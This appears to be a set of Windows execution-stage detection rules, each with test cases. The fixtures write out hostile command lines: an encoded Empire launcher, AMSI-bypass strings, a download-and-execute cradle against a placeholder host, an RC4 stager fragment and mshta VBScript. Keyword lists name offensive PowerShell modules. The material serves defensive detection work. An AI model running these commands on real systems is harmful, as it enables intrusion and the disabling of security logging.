# Execution (TA0002)

detector 'powershell-bxor' do
  title       'PowerShell hides its payload with a binary XOR'
  description <<~TEXT
    Loaders decode their payload with -bxor. The condition is on the deobfuscated command line, so an
    encoded command is looked into as well.
  TEXT
  severity    :high
  attack      'T1027', 'T1059.001'
  match windows? &&
        process_is_likely?('powershell') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['-bxor'])
  fires_on 'inline xor', process_start(platform: 'windows', process_name: 'powershell.exe', command_line: 'powershell -c 1 -bXOR 2')
  ignores  'plain start', process_start(platform: 'windows', process_name: 'powershell.exe', command_line: 'powershell -v')
end

detector 'powershell-encoded-command' do
  title    'PowerShell was started hidden, without profile or policy, with an encoded command'
  severity :high
  attack   'T1059.001', 'T1027.010'
  match process_is_likely?('powershell', 'pwsh') &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: :powershell_encoded) &&
        (process_start_property_matches_any?(property: deobfuscated_command_line, patterns: :powershell_unseen) ||
         process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\s[-\/](ep|ex[a-z]*)\s+['"]?(bypass|unrestricted)/i]))
  fires_on 'an Empire launcher', process_start(process_name: 'powershell.exe', command_line: 'powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'the shortest name', process_start(process_name: 'powershell.exe', command_line: 'powershell -w h -e SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'an alias', process_start(process_name: 'pwsh.exe', command_line: 'pwsh /noprofile /ec SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'all but a letter', process_start(process_name: 'powershell.exe', command_line: 'powershell -win hid -EncodedComman SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'dashes of typography', process_start(process_name: 'powershell.exe', command_line: 'powershell –windowstyl hidden —en SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  fires_on 'carets and quotes', process_start(process_name: 'powershell.exe', command_line: 'powershell -e^p b^ypass -e""nc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  ignores  'a short script', process_start(process_name: 'powershell.exe', command_line: 'powershell -nop -File a.ps1')
  ignores  'an encoded command that anybody may see', process_start(process_name: 'powershell.exe', command_line: 'powershell -enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
  ignores  'another option with E', process_start(process_name: 'powershell.exe', command_line: 'powershell -nop -Error SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA')
end

detector 'powershell-empire-amsi-bypass' do
  title    'PowerShell switched off AMSI or script block logging from inside'
  severity :critical
  attack   'T1562.001', 'T1059.001'
  match process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['amsiInitFailed', 'AmsiUtils', 'cachedGroupPolicySettings', 'EnableScriptBlockInvocationLogging']) ||
        script_property_includes_any?(property: script_content, strings: ['amsiInitFailed', 'System.Management.Automation.AmsiUtils', 'cachedGroupPolicySettings'])
  fires_on 'in a script block', script(script_content: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')")
  fires_on 'on a command line in two pieces', process_start(process_name: 'powershell.exe', command_line: "powershell $a='amsiInitF'+'ailed'")
  ignores  'a version question', script(script_content: '$PSVersionTable')
end

detector 'powershell-download-cradle' do
  title    'PowerShell downloads and runs'
  severity :high
  attack   'T1059.001', 'T1105'
  match (process_is_likely?('powershell') || process_is_likely?('pwsh') || process_is_likely?('cmd')) &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['net.webclient', 'downloadstring', 'downloaddata', 'downloadfile', 'invoke-webrequest', 'start-bitstransfer', 'iwr ']) &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['iex', 'invoke-expression', 'start-process', '.invoke(', '| %', '-join'])
  fires_on 'the classic', process_start(process_name: 'powershell.exe', command_line: "powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
  ignores  'a download alone', process_start(process_name: 'powershell.exe', command_line: 'powershell Invoke-WebRequest https://x/a.msi -OutFile a.msi')
end

detector 'powershell-inject-functions' do
  title    'A script holds functions of known offensive modules'
  severity :high
  attack   'T1059.001', 'T1055'
  match script_property_includes_any?(property: script_content, strings: ['Invoke-DllInjection', 'Invoke-ReflectivePEInjection', 'Invoke-Shellcode', 'Invoke-PSInject', 'Invoke-TokenManipulation', 'Get-GPPPassword', 'Invoke-Kerberoast', 'Invoke-BloodHound', 'PowerView', 'Invoke-Inveigh', 'Out-Minidump', 'Invoke-NinjaCopy', 'Get-Keystrokes', 'VirtualAllocEx', 'CreateRemoteThread', 'Invoke-PowerDump', 'Invoke-SMBExec', 'Invoke-WMIExec'])
  fires_on 'a PowerSploit function', script(script_content: 'function Invoke-DllInjection { }')
  ignores  'a module list', script(script_content: 'Get-Module -ListAvailable')
end

detector 'powershell-empire-stager-script' do
  title    'A script block decodes and runs a keyed stager'
  severity :high
  attack   'T1059.001', 'T1027'
  match script_property_includes_all?(property: script_content, strings: ['-bxor', '%256']) ||
        script_property_includes_all?(property: script_content, strings: ['frombase64string', 'headers.add', 'downloaddata'])
  fires_on 'RC4 in one line', script(script_content: '$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$_-bxor$S[1]}')
  ignores  'base64 alone', script(script_content: '[Convert]::FromBase64String($a)')
end

detector 'office-starts-shell' do
  title    'An Office program started a shell'
  severity :high
  attack   'T1204.002', 'T1059'
  match started_by_office? && is_a_shell?
  fires_on 'Word and PowerShell', process_start(parent_name: 'WINWORD.EXE', process_name: 'powershell.exe')
  ignores  'Word and the printer dialogue', process_start(parent_name: 'WINWORD.EXE', process_name: 'splwow64.exe')
end

detector 'wmi-starts-shell' do
  title    'The WMI provider host started a shell or an interpreter'
  severity :medium
  attack   'T1047'
  match parent_process_is_likely?('wmiprvse') &&
        is_a_shell? &&
        process_start_property_does_not_include_any?(property: command_line, strings: ['\ccm\\', 'chkdsk'])
  fires_on 'remote PowerShell', process_start(parent_name: 'WmiPrvSE.exe', process_name: 'powershell.exe', command_line: 'powershell -c a')
  ignores  'a fault report', process_start(parent_name: 'WmiPrvSE.exe', process_name: 'WerFault.exe', command_line: 'werfault')
end

detector 'wmic-process-call-create' do
  title    'wmic starts a process'
  severity :high
  attack   'T1047'
  match process_is_likely?('wmic') &&
        process_start_property_includes_all?(property: deobfuscated_command_line, strings: ['process', 'call', 'create'])
  fires_on 'on another machine', process_start(process_name: 'WMIC.exe', command_line: 'wmic /node:srv1 process call create "calc.exe"')
  ignores  'a list', process_start(process_name: 'WMIC.exe', command_line: 'wmic process list brief')
end

detector 'mshta-runs-script' do
  title    'mshta runs script from its command line or from the network'
  severity :high
  attack   'T1218.005'
  match process_is_likely?('mshta') &&
        process_start_property_includes_any?(property: deobfuscated_command_line, strings: ['vbscript:', 'javascript:', 'http://', 'https://', 'about:'])
  fires_on 'VBScript', process_start(process_name: 'mshta.exe', command_line: 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run")')
  ignores  'a local file', process_start(process_name: 'mshta.exe', command_line: 'mshta C:\Program Files\app\help.hta')
end

detector 'mshta-starts-shell' do
  title    'mshta started a shell'
  severity :high
  attack   'T1218.005', 'T1059'
  match parent_process_is_likely?('mshta') && is_a_shell?
  fires_on 'PowerShell', process_start(parent_name: 'mshta.exe', process_name: 'powershell.exe')
  ignores  'a browser', process_start(parent_name: 'mshta.exe', process_name: 'msedge.exe')
end

detector 'script-host-runs-from-user-folder' do
  title    'A script host runs a file that a user could have been sent'
  severity :medium
  attack   'T1059.005', 'T1059.007', 'T1204.002'
  match (process_is_likely?('wscript') || process_is_likely?('cscript')) &&
        process_start_property_matches_any?(property: deobfuscated_command_line, patterns: [/\\(downloads|appdata\\local\\temp|users\\public|programdata|desktop)\\[^"]*\.(js|jse|vbs|vbe|wsf|sct)\b/i])
  fires_on 'a script in Downloads', process_start(process_name: 'wscript.exe', command_line: '"C:\Windows\System32\WScript.exe" "C:\Users\a\Downloads\invoice.js"')
  ignores  'a script of Windows', process_start(process_name: 'cscript.exe', command_line: 'cscript C:\Windows\system32\gatherNetworkInfo.vbs')
end

detector 'double-extension' do
  title    'A program with the extension of a document or picture in its name ran'
  severity :high
  attack   'T1036.007', 'T1204.002'
  match process_start_property_matches_any?(property: process_path, patterns: [/\.(docx?|xlsx?|pptx?|pdf|jpe?g|png|gif|txt|rtf|zip|mp[34])\s*\.(exe|scr|com|pif|bat)$/i])
  fires_on 'a picture that is none', process_start(process_path: 'C:\Users\a\Downloads\happy_image.jpeg.exe')
  ignores  'an ordinary name', process_start(process_path: 'C:\Program Files\app\image.exe')
end

detector 'unusual-child-of-explorer-from-downloads' do
  title    'A program with a payload-like name was started from Downloads'
  severity :medium
  attack   'T1204.002'
  match process_start_property_includes_any?(property: process_path, strings: ['\downloads\\', '\appdata\local\temp\\']) &&
        process_start_property_matches_any?(property: process_name, patterns: [/payload|beacon|meterpreter|shellcode|stager|implant|reverse_?shell/i])
  fires_on 'payload.exe', process_start(process_path: 'C:\Users\a\Downloads\payload.exe', process_name: 'payload.exe')
  ignores  'an installer', process_start(process_path: 'C:\Users\a\Downloads\setup.exe', process_name: 'setup.exe')
end

detector 'excel-automation-by-dcom' do
  title    'Excel was started for automation from another machine'
  description <<~TEXT
    Scripts automate Excel as well, but in the session of their user: what DCOM starts for another machine
    runs in session 0, where nobody could see its window.
  TEXT
  severity :medium
  attack   'T1021.003', 'T1559.001'
  match process_is_likely?('excel') &&
        process_start_property_includes_any?(property: command_line, strings: ['/automation']) &&
        process_start_property_equals_any?(property: parent_name, strings: ['svchost.exe']) &&
        process_start_property_equals_any?(property: session_id, numbers: [0])
  fires_on 'DCOM', process_start(process_name: 'EXCEL.EXE', parent_name: 'svchost.exe', session_id: 0, command_line: '"EXCEL.EXE" /automation -Embedding')
  ignores  "a user's script", process_start(process_name: 'EXCEL.EXE', parent_name: 'svchost.exe', session_id: 2, command_line: '"EXCEL.EXE" /automation -Embedding')
  ignores  'a person', process_start(process_name: 'EXCEL.EXE', parent_name: 'explorer.exe', command_line: '"EXCEL.EXE" a.xlsx')
end
